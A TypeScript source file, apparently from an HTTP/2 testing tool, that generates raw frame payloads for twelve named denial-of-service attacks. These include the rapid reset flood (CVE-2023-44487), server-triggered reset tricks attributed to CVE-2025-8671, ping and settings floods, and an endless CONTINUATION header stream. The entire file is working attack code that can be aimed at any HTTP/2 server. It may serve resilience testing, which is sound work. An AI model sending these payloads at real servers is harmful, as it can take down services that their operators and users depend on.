import {
  callHeaders,
  dataFrames,
  flag,
  frame,
  frameType,
  headerFrames,
  message,
  uint32,
} from './http2-frames.ts'

/** What one connection sends again and again, from stream `first` on, `count` streams at once. */
export type Attack = (first: number, count: number) => Buffer

const eachStream = (of: (stream: number) => readonly Buffer[]): Attack => {
  return (first, count) =>
    Buffer.concat(Array.from({ length: count }, (_, index) => of(first + index * 2)).flat())
}
const head = callHeaders()
const whole = (stream: number) => headerFrames(head, stream, { ends: true })
const { reset, windowUpdate, priority, data } = frameType

/**
 * Rapid reset (CVE-2023-44487), and the ways to make the server do the reset itself
 * (CVE-2025-8671): its limit of streams at once never counts them.
 */
export const attacks = {
  'resets its own calls': eachStream((id) => [
    headerFrames(head, id),
    frame(reset, 0, id, uint32(8)),
  ]),
  'opens a window by nothing': eachStream((id) => [
    whole(id),
    frame(windowUpdate, 0, id, uint32(0)),
  ]),
  'opens a window too far': eachStream((id) => [
    whole(id),
    frame(windowUpdate, 0, id, uint32(0x7fff_ffff)),
  ]),
  'sends data after the end': eachStream((id) => [whole(id), frame(data, 0, id, Buffer.alloc(9))]),
  'sends headers after the end': eachStream((id) => [whole(id), whole(id)]),
  'sends a priority of four bytes': eachStream((id) => [
    whole(id),
    frame(priority, 0, id, uint32(0)),
  ]),
  'sends more than it said': eachStream((id) => [
    headerFrames([...head, ['content-length', '1']], id),
    dataFrames(message(0), id),
  ]),
  'sends pings': (_, count) => repeated(frame(frameType.ping, 0, 0, Buffer.alloc(8)), count),
  'sends settings': (_, count) => repeated(frame(frameType.settings, 0, 0), count),
  'never ends its headers': (first, count) => {
    const begun = frame(frameType.headers, 0, first, headerFrames(head, first).subarray(9))
    return Buffer.concat([begun, repeated(frame(frameType.continuation, 0, first), count)])
  },
  'leaves every request open': eachStream((id) => [headerFrames(head, id)]),
  'sends whole calls': eachStream((id) => [
    headerFrames(head, id),
    frame(data, flag.endStream, id, message(0)),
  ]),
} as const satisfies Record<string, Attack>
export type AttackName = keyof typeof attacks

function repeated(bytes: Buffer, count: number): Buffer {
  return Buffer.concat(Array(count).fill(bytes))
}
